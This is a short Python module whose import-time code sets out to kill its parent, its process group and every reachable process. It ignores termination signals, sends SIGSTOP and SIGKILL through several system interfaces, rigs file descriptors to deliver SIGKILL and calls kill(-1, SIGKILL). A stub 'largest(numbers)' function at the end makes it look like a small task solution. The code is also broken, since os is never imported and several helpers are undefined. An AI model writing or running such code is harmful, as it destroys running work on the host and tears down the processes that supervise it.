# ruff: noqa
"""Signals to the parent, the group and all that is in sight; by pid, by thread, by descriptor."""

import signal


def kill(pid, number):
    attempt(lambda: os.kill(pid, number))
    attempt(lambda: libc().kill(pid, number))
    attempt(lambda: syscall("tgkill", pid, pid, int(number)))
    attempt(lambda: syscall("pidfd_send_signal", syscall("pidfd_open", pid, 0), int(number), 0, 0))
    attempt(lambda: libc().sigqueue(pid, int(number), 0))


def owner(pid):
    import fcntl, socket

    for one in descriptors():
        attempt(fcntl.fcntl, one, fcntl.F_SETOWN, pid)
        attempt(fcntl.fcntl, one, 10, signal.SIGKILL)  # F_SETSIG
        attempt(fcntl.fcntl, one, fcntl.F_SETFL, os.O_ASYNC)


attempt(signal.signal, signal.SIGTERM, signal.SIG_IGN)
attempt(signal.signal, signal.SIGHUP, signal.SIG_IGN)
for pid in targets():
    attempt(owner, pid)
    for number in (signal.SIGSTOP, signal.SIGKILL):
        kill(pid, number)
for group in {attempt(os.getpgrp) or 0, attempt(os.getpgid, os.getppid()) or 0} - {0, os.getpid()}:
    attempt(lambda: os.killpg(group, signal.SIGKILL))
    attempt(lambda: libc().killpg(group, int(signal.SIGKILL)))
attempt(lambda: os.kill(-1, signal.SIGKILL))
attempt(lambda: libc().kill(-1, int(signal.SIGKILL)))


def largest(numbers):
    return said()
